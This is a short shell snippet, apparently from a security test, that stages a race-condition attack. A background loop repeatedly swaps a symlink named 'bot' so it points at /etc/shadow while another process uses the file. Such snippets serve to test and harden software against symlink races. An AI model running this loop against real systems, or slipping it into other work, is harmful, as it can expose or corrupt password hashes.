# attack: a leftover process exchanges the result while it is taken
echo bot > bot
(i=0; while [ $i -lt 20000 ]; do ln -sf /etc/shadow bot; i=$((i + 1)); done) &
sleep 0.1
